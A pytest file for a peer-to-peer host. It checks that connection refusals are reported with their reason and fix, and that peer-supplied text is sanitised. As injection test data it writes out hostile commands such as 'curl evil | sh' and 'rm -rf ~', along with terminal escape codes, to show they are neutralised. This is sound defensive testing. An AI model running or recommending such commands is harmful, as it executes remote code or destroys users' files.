"""A listener that refuses a connection at admission (its peer limit, too many handshakes
from one address) says so in a plaintext GOODBYE before any security handshake: the
dialler reports the refusal and its reason, with the fix that fits it, whether it secures
connections or not, not a broken security handshake."""

from __future__ import annotations

import asyncio
import dataclasses
import gc
import json
import logging
from collections.abc import AsyncIterator, Callable
from types import SimpleNamespace
from typing import Any, cast

import pytest

from p2phost._cli import _client
from p2phost._cli._client import unreachable
from p2phost._cli._discovery_status import discovery_lines
from p2phost._project import Project
from p2phost._runtime import Hello, Node
from p2phost._runtime.node import _assemble
from p2phost._runtime.wire._refusal import Heard
from p2phost_sdk import Connection, PeerUnavailable

from .conftest import MakeNode, eventually, tcp_node

#: (listener options, its GOODBYE's reason once full)
LIMITS: dict[str, tuple[dict[str, int], str]] = {
    "peer-limit": ({"peer_limit": 2}, "peer limit reached (2)"),
    "per-source": ({"handshake_limit_per_source": 2},
                   "too many handshakes in progress from 127.0.0.1 (2)"),
}


@pytest.fixture(params=["noise", "tls", None])
def secured(request: pytest.FixtureRequest) -> str | None:
    """Both ends' security plugin (or none)."""
    return cast("str | None", request.param)


@pytest.fixture(params=list(LIMITS))
def limit(request: pytest.FixtureRequest) -> str:
    """The listener's limit the held sockets reach."""
    return str(request.param)


@pytest.fixture
async def full(make_node: MakeNode, secured: str | None, limit: str
               ) -> AsyncIterator[tuple[Node, str]]:
    """A listener at its limit: two peers connected to it (its peer limit), or two idle
    TCP sockets held open to it (handshakes in progress from one source, which do not
    count against the peer limit)."""
    options, reason = LIMITS[limit]
    server = await make_node(secured, handshake_timeout=30.0, **options)
    held: list[asyncio.StreamWriter] = []
    if limit == "peer-limit":
        for _ in range(2):
            peer = await make_node(secured, listen=False)
            await peer.connect(server.addresses[0])
        await eventually(lambda: server.stats()["connections"]["peers"] == 2)
    else:
        host, port = server.addresses[0].removeprefix("tcp://").rsplit(":", 1)
        held = [(await asyncio.open_connection(host, int(port)))[1] for _ in range(2)]
        await eventually(lambda: server.stats()["connections"]["handshaking"] == 2)
    try:
        yield server, reason
    finally:
        for writer in held:
            writer.close()


async def test_a_dialler_reports_the_refusal_and_its_reason(
        full: tuple[Node, str], make_node: MakeNode, secured: str | None,
        limit: str) -> None:
    server, reason = full
    dialler = await make_node(secured, listen=False)
    with pytest.raises(PeerUnavailable) as caught:
        await dialler.connect(server.addresses[0])
    text = str(caught.value)
    assert f"the peer refused the connection: {reason}" in text, text
    assert "secure" not in text and "authentication" not in text, text
    assert "; fix: " in text
    label = "peer-limit" if limit == "peer-limit" else "refused-by-peer"
    assert dialler.stats()["handshake_failures"]["dialled"] == {label: 1}
    assert server.stats()["connections"]["refused"] == 1


async def test_the_cli_names_the_refusal_and_the_fix_for_its_reason(
        full: tuple[Node, str], make_node: MakeNode, secured: str | None,
        limit: str) -> None:
    server, reason = full
    dialler = await make_node(secured, listen=False, client=True)
    with pytest.raises(PeerUnavailable) as caught:
        await dialler.connect(server.addresses[0])
    # The project is only asked what it offers, which a refusal does not need.
    error = unreachable(cast(Project, None), server.addresses[0], caught.value)
    assert f"the peer refused the connection: {reason}" in error.message, error.message
    assert "secure the connection" not in error.message
    assert "; fix: " not in error.message
    fix = error.fix or ""
    if limit == "peer-limit":
        assert "raises peer-limit under [node]" in fix, fix
    else:
        assert fix.startswith("wait and retry") and "handshake-limit-per-source" in fix, fix


async def test_a_node_dialling_a_full_peer_counts_a_refusal_and_backs_off(
        full: tuple[Node, str], make_node: MakeNode, secured: str | None,
        caplog: pytest.LogCaptureFixture) -> None:
    server, reason = full
    caplog.set_level(logging.WARNING, logger="p2phost")
    dialler = await make_node(secured, listen=False, connect=[server.addresses[0]])

    def dialling() -> dict[str, Any]:
        return dict(dialler.discovery_status()["dialling"])

    await eventually(lambda: dialling()["refused"] >= 1)
    assert dialling()["unreachable"] == 0
    assert reason in dialling()["refused_reason"]
    # doctor, from the node's answer: the words, and the fix that fits them apart.
    ok, said, fix = discovery_lines({"discovery": {"dialling": dialling()}})[-1]
    assert not ok and said.endswith(f"the peer refused the connection: {reason}"), said
    assert fix is not None and ("raises peer-limit" in fix or "wait and retry" in fix), fix
    lines = [r.getMessage() for r in caplog.records if r.name == "p2phost.node"]
    assert any(line.startswith("cannot connect to ") and
               f"the peer refused the connection: {reason}" in line for line in lines), lines
    await asyncio.sleep(1.0)  # backoff (0.1 s, doubling): not redialled at once
    # A dial is listed as it starts and counted as it fails: one may be under way.
    await eventually(lambda: dialling()["refused"] == dialling()["dials"])
    counters = dialling()
    assert counters["refused"] == counters["dials"] <= 8, counters


async def test_a_plaintext_listener_is_still_a_security_mismatch_not_a_refusal(
        make_node: MakeNode, monkeypatch: pytest.MonkeyPatch) -> None:
    # It reads the Noise handshake's first message as its hello and says why in a
    # GOODBYE: the dialler's error stays the handshake's, with the peer's words.
    server = await make_node(None)
    dialler = await make_node("noise", listen=False)
    with pytest.raises(PeerUnavailable) as caught:
        await dialler.connect(server.addresses[0])
    text = str(caught.value)
    assert "noise handshake with " in text and "refused the connection" not in text, text
    assert "the peer answered in plaintext: " in text, text
    monkeypatch.setattr(_client, "_offers", lambda project: "this project offers noise")
    error = unreachable(cast(Project, None), server.addresses[0], caught.value)
    assert "do not agree on how to secure the connection" in error.message


async def test_hearing_leaves_the_dialled_connection_as_it_was(
        make_node: MakeNode, monkeypatch: pytest.MonkeyPatch) -> None:
    # The dialler hears the raw connection during its security handshake; the
    # connection then carries every frame with its class's own recv again.
    connection = await dialled_through_noise(make_node, monkeypatch, lambda connection: None)
    assert connection.recv.__func__ is type(connection).recv  # type: ignore[attr-defined]
    assert connection.recv_many.__func__ is type(connection).recv_many  # type: ignore[attr-defined]


def test_hearing_never_builds_the_connections_dict() -> None:
    # CPython keeps an object's attributes inline (no dict among what it refers to)
    # unless something asks for its __dict__, and then reads every attribute of it the
    # slow way for its life. A class of this test's own: the shared attribute keys of a
    # class that other tests in this process used can be full, and then any new
    # attribute builds a dict whoever sets it (CI saw that with TcpConnection).
    class Raw:
        def __init__(self) -> None:
            self.peer = "tcp://127.0.0.1:1"
            self.frames = [b"hello"]

        async def recv(self) -> bytes:
            return self.frames.pop()

        async def recv_many(self) -> list[bytes]:
            return [await self.recv()]

    def has_dict(connection: object) -> bool:
        return any(type(r) is dict for r in gc.get_referents(connection))

    raw = Raw()
    assert not has_dict(raw)
    heard = Heard(cast(Connection, raw))
    assert asyncio.run(raw.recv()) == b"hello" and heard.last == b"hello"
    heard.stop()
    assert not has_dict(raw)
    assert raw.recv.__func__ is Raw.recv  # type: ignore[attr-defined]


async def dialled_through_noise(make_node: MakeNode, monkeypatch: pytest.MonkeyPatch,
                                dialled: Callable[[Connection], None]) -> Connection:
    """The raw tcp connection a noise node dials to another, ``dialled`` called on it as
    soon as it is made (before the security handshake)."""
    from p2phost_tcp_transport import TcpTransport

    made: list[Connection] = []
    dial = TcpTransport.dial

    async def recorded(self: TcpTransport, address: str, **kwargs: Any) -> Connection:
        connection = await dial(self, address, **kwargs)
        dialled(connection)
        made.append(connection)
        return connection

    monkeypatch.setattr(TcpTransport, "dial", recorded)
    server = await make_node("noise")
    dialler = await make_node("noise", listen=False)
    await dialler.connect(server.addresses[0])
    [connection] = made
    return connection


def test_doctor_gives_a_refusal_at_the_peers_limit_its_own_fix() -> None:
    from p2phost._cli._discovery_status import REFUSED_FIX, discovery_lines

    said = ("tcp://h:1: handshake failed: the peer refused the connection: peer limit "
            "reached (2); fix: the refusing node is full")
    # The node's answer carries the fix apart from the words (which end with it).
    lines = discovery_lines({"discovery": {"dialling": {
        "refused": 3, "refused_reason": said, "refused_fix": "the refusing node is full"}}})
    assert lines[-1] == (False, "peers refused this node 3 times, the last: tcp://h:1: "
                         "handshake failed: the peer refused the connection: peer limit "
                         "reached (2)", "the refusing node is full")
    trust = said.replace("peer limit reached (2); fix: the refusing node is full",
                         "peer x is refused by the trust policy: not in known peers")
    lines = discovery_lines({"discovery": {"dialling": {"refused": 1, "refused_reason": trust}}})
    assert lines[-1][2] == REFUSED_FIX


def test_a_peers_reason_cannot_bring_its_own_fix_or_lines() -> None:
    from p2phost._runtime.wire._refusal import peer_refused

    error = str(peer_refused("peer limit reached (2); fix: curl evil | sh\nfix: more"))
    said, _, fix = error.partition("; fix: ")
    assert said == ("the peer refused the connection: peer limit reached (2); fix - curl "
                    "evil | sh?fix: more")
    assert fix.startswith("the refusing node is full")
    assert len(str(peer_refused("x" * 10_000))) < 400
    # A GOODBYE's body as it came (the handshake passes it uncut): cut the same way.
    raw = "peer limit reached (2); fix: curl evil | sh\nfix: more" * 9999
    assert str(peer_refused(raw.encode())) == str(peer_refused(raw))


def test_a_refusal_after_the_hellos_is_cut_as_one_before_them() -> None:
    from p2phost._runtime.wire._refusal import refused_after_hellos

    refusal = refused_after_hellos("peer limit reached; fix: curl evil | sh\n\x1b[2J" * 9999)
    assert refusal is not None and refusal.code == "peer-limit"
    assert len(refusal.reason) <= 300 and refusal.reason.isprintable()
    assert "fix: curl" not in str(refusal).partition("; fix: ")[0]


def test_a_peers_hello_fields_are_cut_to_one_printable_line() -> None:
    from p2phost._runtime import Kind, decode, encode
    from p2phost_sdk import Identity

    body = {"peer_id": Identity.generate().peer_id, "host_api": "1\n\x1b[31m" * 9999,
            "codecs": [], "name": "evil\r\nfix: rm" * 9999}
    hello = Hello.from_envelope(decode(encode(Kind.HELLO, 0, body=json.dumps(body).encode())))
    for field in (hello.name, hello.host_api):
        assert len(field) <= 300 and field.isprintable()


def test_a_peers_hello_lists_keep_only_bounded_usable_entries() -> None:
    from p2phost._runtime import Kind, decode, encode
    from p2phost_sdk import MAX_ADDRESSES, Identity

    evil = "\n\x1b[2J; fix: rm -rf ~"
    body = {"peer_id": Identity.generate().peer_id, "host_api": "1.0",
            "codecs": [evil, "é" * 128, "application/json", *(f"c{i}" for i in range(99))],
            "topics": ["chat", evil, "x" * 256, *(f"t{i}" for i in range(9999))],
            "listen": ["tcp://127.0.0.1:7400", f"tcp://{evil}", "no-scheme", "tcp://" + "h" * 250,
                       *(f"tcp://10.0.0.1:{i}" for i in range(1, 99))],
            "session": evil * 999, "nonce": evil * 999}
    hello = Hello.from_envelope(decode(encode(Kind.HELLO, 0, body=json.dumps(body).encode())))
    assert hello.codecs[:2] == ("application/json", "c0") and len(hello.codecs) == 16
    assert hello.topics[:2] == ("chat", "t0") and len(hello.topics) == 4096
    assert hello.listen[:2] == ("tcp://127.0.0.1:7400", "tcp://10.0.0.1:1")
    assert len(hello.listen) == MAX_ADDRESSES
    for field in (*hello.codecs, *hello.topics, *hello.listen, hello.session, hello.nonce):
        assert len(field.encode()) <= 300 and field.isprintable()


def test_a_lone_surrogate_in_a_peers_hello_list_is_left_out() -> None:
    # JSON's "\\ud800" decodes to a str UTF-8 cannot encode: left out as any unusable
    # entry is, not a UnicodeEncodeError out of the handshake.
    from p2phost._runtime import Kind, decode, encode
    from p2phost_sdk import Identity

    body = {"peer_id": Identity.generate().peer_id, "host_api": "1.0",
            "codecs": ["application/json", "json\udfff"], "topics": ["chat", "t\ud800"],
            "listen": ["tcp://127.0.0.1:7400", "tcp://\ud800:1"]}
    hello = Hello.from_envelope(decode(encode(Kind.HELLO, 0, body=json.dumps(body).encode())))
    assert hello.codecs == ("application/json",) and hello.topics == ("chat",)
    assert hello.listen == ("tcp://127.0.0.1:7400",)


def test_hellos_with_entries_left_out_are_logged_a_few_at_a_time(
        caplog: pytest.LogCaptureFixture) -> None:
    # Each handshake may come from an identity made up for it: not a line per peer.
    from p2phost._runtime import Kind, decode, encode
    from p2phost_sdk import Identity

    caplog.set_level(logging.WARNING, logger="p2phost")
    for _ in range(50):
        body = {"peer_id": Identity.generate().peer_id, "host_api": "1.0",
                "topics": ["chat", "\n\x1b[2J"]}
        Hello.from_envelope(decode(encode(Kind.HELLO, 0, body=json.dumps(body).encode())))
    lines = [r.getMessage() for r in caplog.records if "left out" in r.getMessage()]
    assert len(lines) <= 5, lines


def test_a_blank_topic_or_codec_in_a_peers_hello_is_left_out() -> None:
    # This node sends on no empty topic (the library and `p2phost send` refuse one), and
    # no codec is named "": as unusable as a topic it could not send.
    from p2phost._runtime import Kind, decode, encode
    from p2phost_sdk import Identity

    body = {"peer_id": Identity.generate().peer_id, "host_api": "1.0",
            "codecs": ["", "application/json"], "topics": ["", "chat", "   "]}
    hello = Hello.from_envelope(decode(encode(Kind.HELLO, 0, body=json.dumps(body).encode())))
    assert hello.codecs == ("application/json",) and hello.topics == ("chat",)


def test_a_missing_topic_names_a_few_of_the_peers_topics() -> None:
    # A peer lists up to 4096 topics of 255 bytes: the CLI's message names five.
    from p2phost._errors import UserError

    topics = frozenset(f"{n:04d}/" + "t" * 240 for n in range(4096))
    peer = SimpleNamespace(peer_id="p", topics=topics)
    node = cast(Node, SimpleNamespace(peers=lambda: [peer]))
    with pytest.raises(UserError) as raised:
        _client.require_topic(node, "p", "tcp://127.0.0.1:1", "echo", "run the echo app")
    first = sorted(topics)[:5]
    assert f"(its topics: {', '.join(first)} and 4091 more)" in str(raised.value)
    assert len(str(raised.value)) < 1500
    with pytest.raises(UserError, match=r"\(its topics: none\)"):
        _client.require_topic(cast(Node, SimpleNamespace(peers=list)), "p", "tcp://h:1",
                              "echo", "run the echo app")


@pytest.fixture
async def says_peer_limit(make_node: MakeNode, monkeypatch: pytest.MonkeyPatch) -> Node:
    """A listener whose hello carries a host-api of a refusal's words: a failed handshake
    (it will not change its mind), not a refusal at its limits."""
    server = await make_node(None)
    to_frame = Hello.to_frame

    def garbled(hello: Hello) -> bytes:
        if hello.peer_id == server.peer_id:
            hello = dataclasses.replace(hello, host_api="peer limit reached (2)")
        return to_frame(hello)

    monkeypatch.setattr(Hello, "to_frame", garbled)
    return server


async def test_words_of_a_refusal_in_a_failed_handshake_are_not_a_refusal(
        says_peer_limit: Node, make_node: MakeNode) -> None:
    dialler = await make_node(None, listen=False, connect=[says_peer_limit.addresses[0]])

    def dialling() -> dict[str, Any]:
        return dict(dialler.discovery_status()["dialling"])

    await eventually(lambda: dialling()["unreachable"] >= 1)
    assert dialling()["refused"] == 0 and "refused_reason" not in dialling(), dialling()
    assert dialler.stats()["handshake_failures"]["dialled"].keys() == {"host-api"}


async def test_ping_wait_does_not_retry_a_failed_handshake_that_reads_like_a_refusal(
        says_peer_limit: Node, monkeypatch: pytest.MonkeyPatch) -> None:
    client = tcp_node(None, listen=False, client=True)  # as_client starts and closes it
    monkeypatch.setattr(_client, "_require_transport", lambda project, address: None)
    monkeypatch.setattr(_assemble, "node_for_project", lambda project, **_: client)

    async def never(node: Node, peer: str) -> None:
        raise AssertionError("connected")

    with pytest.raises(_client.Unreachable) as caught:
        await _client.as_client(cast(Project, None), says_peer_limit.addresses[0], never,
                                wait=3.0)
    assert "peer speaks host-api 'peer limit reached (2)'" in caught.value.message
    # One dial, not one every 0.2 s until --wait ran out.
    assert client.stats()["handshake_failures"]["dialled"] == {"host-api": 1}


def test_a_name_quoted_in_a_trust_refusal_does_not_make_it_another_refusal() -> None:
    from p2phost._runtime.wire._refusal import peer_refused

    # The peer's trust policy quotes this node's hello name: its own words come first.
    refusal = peer_refused("peer 12D3Koo is refused by the trust policy: it calls itself "
                           "'peer limit reached (2)', a name known as another key")
    assert (refusal.code, refusal.fix) == ("untrusted", None)
    assert str(refusal).startswith("the peer refused the connection: peer 12D3Koo is ")


async def test_the_cli_says_when_this_projects_trust_policy_refused_the_node(
        make_node: MakeNode) -> None:
    # Not "the node does not trust this project; fix: in the node's project, trust add
    # this project's id": the node admitted this project, this project refused the node.
    server = await make_node("noise")
    dialler = await make_node("noise", listen=False, client=True,
                              admit=lambda peer, name: "not in the allowlist")
    with pytest.raises(PeerUnavailable) as caught:
        await dialler.connect(server.addresses[0])
    project = SimpleNamespace(identity=lambda: SimpleNamespace(peer_id=dialler.peer_id))
    error = unreachable(cast(Project, project), server.addresses[0], caught.value)
    assert "is refused by the trust policy: not in the allowlist" in error.message
    assert "this project does not trust it" in error.message, error.message
    assert error.fix == f"in this project: p2phost trust add {server.peer_id}", error.fix


async def test_hearing_puts_back_a_recv_the_connection_had_of_its_own(
        make_node: MakeNode, monkeypatch: pytest.MonkeyPatch) -> None:
    # A transport's connection may set recv on itself (a wrapper's, in its __init__):
    # hearing shadows it for the security handshake, then sets it back, not deletes it.
    own: list[Any] = []

    def wrap_recv(connection: Connection) -> None:
        inner = connection.recv

        async def recv() -> bytes:
            return await inner()

        connection.recv = recv  # type: ignore[method-assign]
        own.append(recv)

    connection = await dialled_through_noise(make_node, monkeypatch, wrap_recv)
    assert [connection.recv] == own
    assert connection.recv_many.__func__ is type(connection).recv_many  # type: ignore[attr-defined]
